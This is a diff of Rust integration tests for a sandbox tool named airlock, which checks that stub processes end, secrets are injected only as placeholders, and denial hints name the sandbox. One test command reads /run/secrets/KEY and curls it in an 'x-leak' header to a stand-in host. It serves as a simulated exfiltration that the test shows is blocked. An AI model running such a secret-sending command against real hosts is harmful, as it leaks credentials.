@@ -224,6 +224,27 @@ fn named_from_the_pool(a: &Airlock, label: &str) {
         !sdir.join("stub.sock").exists(),
         "{label}: the stub still listens"
     );
+    // The stub itself is ended (a zombie of the member's supervisor at most), and with it the
+    // child it had parked inside the member for a claim: nothing of it stays in the sandbox.
+    let stub: i32 = std::fs::read_to_string(sdir.join("stub.pid"))
+        .expect("stub.pid")
+        .trim()
+        .parse()
+        .expect("a pid");
+    let ended = |pid: i32| {
+        std::fs::read_to_string(format!("/proc/{pid}/stat"))
+            .map(|s| s.rsplit_once(") ").is_some_and(|(_, r)| r.starts_with('Z')))
+            .unwrap_or(true)
+    };
+    let children = |pid: i32| {
+        std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default()
+    };
+    assert!(
+        wait_until(Duration::from_secs(5), || ended(stub)
+            && children(stub).trim().is_empty()),
+        "{label}: the member's stub {stub} lives on (children: {})",
+        children(stub)
+    );
     let status: serde_json::Value = status_of(a, "wn-one");
     assert_eq!(status["warm_start"]["warm"], true, "{label}: {status}");
     assert_eq!(status["warm_start"]["member"], m1.as_str(), "{label}");
@@ -481,7 +502,8 @@ fn named_injected(a: &Airlock, label: &str) {
             "echo \"env=$KEY\"; echo \"file=$(cat /run/secrets/KEY)\"; \
              echo \"bundle=$SSL_CERT_FILE $REQUESTS_CA_BUNDLE\"; \
              curl -sS --max-time 10 -H \"x-api-key: $KEY\" https://api.test/named; \
-             curl -sS --max-time 10 {fmt} -H \"x-leak: $KEY\" http://other.test/leak"
+             curl -sS --max-time 10 {fmt} -H \"x-leak: $KEY\" http://other.test/leak; \
+             getent hosts denied.test >/dev/null || true"
         ),
     ]);
     let lines: Vec<&str> = out.stdout.lines().collect();
@@ -513,6 +535,11 @@ fn named_injected(a: &Airlock, label: &str) {
         .unwrap_or_default();
     assert!(
         journal.contains("placeholder of secret KEY") && !journal.contains(REAL),
+        "{label}: {journal}"
+    );
+    // Its denials' hints name the sandbox, not the member it was (`airlock allow run-…`).
+    assert!(
+        journal.contains("airlock allow wi-one denied.test") && !journal.contains("allow run-"),
         "{label}: {journal}"
     );
     assert!(!out.stdout.contains(REAL) && !out.stderr.contains(REAL));
